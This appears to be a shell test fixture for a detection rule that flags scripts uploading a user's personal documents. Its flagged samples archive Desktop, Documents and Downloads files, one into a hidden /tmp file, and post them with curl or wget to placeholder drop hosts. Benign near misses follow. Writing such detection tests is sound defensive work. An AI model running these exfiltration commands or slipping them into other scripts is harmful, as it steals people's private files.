#!/bin/sh
# Annotated samples (inert, never run): the user's documents uploaded, and near misses.
tar czf /tmp/.dl.tgz ~/Desktop/*.docx 2>/dev/null
# ruleid: shell-documents-upload
curl -s -F file=@/tmp/.dl.tgz "$ARCHIVE_URL"
zip -qr /tmp/docs.zip "$HOME/Documents"
# ruleid: shell-documents-upload
curl -T /tmp/docs.zip https://drop.example.net/up
# ruleid: shell-documents-upload
curl --data-binary @"$HOME/Downloads/statement.pdf" https://api.example.net/in
7z a /tmp/p.7z ~/*.pdf
# ruleid: shell-documents-upload
wget --post-file=/tmp/p.7z https://drop.example.net/p

# near misses: the package's own build, a document of the working directory, an archive kept on the machine
tar -czf out.tgz ./build
# ok: shell-documents-upload
curl -F f=@out.tgz https://api.example.net/in
# ok: shell-documents-upload
curl -F file=@./report.pdf https://api.example.net/convert
tar czf ~/backup/docs.tgz ~/Documents
# ok: shell-documents-upload
curl -s https://api.example.net/status -o /tmp/status.json
